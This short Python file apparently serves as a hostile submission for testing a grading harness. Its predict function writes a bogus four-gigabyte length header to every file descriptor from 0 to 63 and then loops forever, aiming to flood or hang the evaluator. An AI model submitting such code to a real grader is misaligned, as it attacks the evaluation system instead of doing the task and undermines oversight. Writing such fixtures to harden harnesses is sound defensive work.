"""Announces an answer of four gigabytes and begins to send it."""

import os


def predict(parameters, X):
    for descriptor in range(64):
        try:
            os.set_blocking(descriptor, True)
            os.write(descriptor, b"\xff\xff\xff\xff" + bytes(60_000))
        except OSError:
            pass
    while True:
        pass
